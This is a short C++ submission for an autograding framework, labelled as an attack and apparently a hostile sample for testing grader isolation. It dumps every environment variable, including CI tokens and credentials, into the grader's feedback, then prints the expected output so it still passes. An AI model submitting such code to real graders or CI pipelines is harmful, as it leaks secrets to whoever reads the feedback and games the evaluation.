// Attack: print the grader's environment (CI tokens, credentials) into the feedback.
#include <gclab/cell.hpp>

#include <cstdio>

extern char** environ;

GCLAB_CELL(1, "steal the environment") {
  for (char** e = environ; *e != nullptr; ++e) std::printf("ENV %s\n", *e);
  std::printf("hello\nworld\n");
}
